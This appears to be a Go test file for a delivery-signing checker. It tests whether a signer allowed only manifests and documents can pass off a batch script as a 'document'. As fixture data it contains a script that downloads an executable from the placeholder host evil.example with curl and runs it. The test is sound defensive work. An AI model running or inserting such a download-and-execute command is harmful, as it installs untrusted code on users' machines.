package gate_test

import (
	"bytes"
	"crypto/ed25519"
	"crypto/sha256"
	"crypto/x509"
	"encoding/pem"
	"fmt"
	"path/filepath"
	"slices"
	"testing"

	"github.com/cleanbill-dev/cleanbill/pkg/decision"
)

// TestWhoMayCallCodeAPaper: a manifest may call text a document although it looks like code. Who may sign manifests and documents and no software cannot so
// have a script taken for one.
func TestWhoMayCallCodeAPaper(t *testing.T) {
	const script = "@echo off\r\ncurl http://evil.example/x.exe -o x.exe\r\nx.exe\r\n"
	key := ed25519.NewKeyFromSeed(bytes.Repeat([]byte{7}, ed25519.SeedSize))
	public, err := x509.MarshalPKIXPublicKey(key.Public())
	if err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct {
		name, roles, digest, check string
		want                       decision.Outcome // of the check; empty: the script is a document, and not asked
	}{
		{"who may sign software", "manifest, document, artifact", fmt.Sprintf("%x", sha256.Sum256([]byte(script))), "SIG-001", ""},
		{"who may sign papers alone", "manifest, document", fmt.Sprintf("%x", sha256.Sum256([]byte(script))), "SIG-002", decision.Fail},
		{"without its digest", "manifest, document, artifact", "", "SIG-001", decision.Fail},
	} {
		t.Run(tt.name, func(t *testing.T) {
			dir, registry := t.TempDir(), t.TempDir()
			manifest := "kind: cleanbill.delivery/v1\nproduct: {name: real, version: \"1\"}\nsupplier: real\nfiles:\n  - {path: update.bat, role: document"
			if tt.digest != "" {
				manifest += ", sha256: " + tt.digest
			}
			manifest += "}\n"
			write(t, filepath.Join(dir, "update.bat"), script)
			write(t, filepath.Join(dir, "delivery.yaml"), manifest)
			write(t, filepath.Join(dir, "delivery.yaml.sig"), string(ed25519.Sign(key, []byte(manifest))))
			write(t, filepath.Join(registry, "key.pem"), string(pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: public})))
			write(t, filepath.Join(registry, "real.yaml"), "kind: cleanbill.supplier/v1\nname: real\ntitle: Real\nproducts: [{name: real}]\nsigners:\n"+
				"  - {name: papers, key: {file: key.pem}, roles: ["+tt.roles+"], validFrom: 2020-01-01, statedTime: accept}\n")
			d := judgeReal(t, dir, registry)
			i := slices.IndexFunc(d.Findings, func(f decision.Finding) bool { return f.Check == tt.check && f.Subject.Ref == "update.bat" })
			var got decision.Outcome
			if i >= 0 {
				got = d.Findings[i].Outcome
			}
			if got != tt.want {
				t.Errorf("%s on the script: %q, expected %q", tt.check, got, tt.want)
			}
		})
	}
}
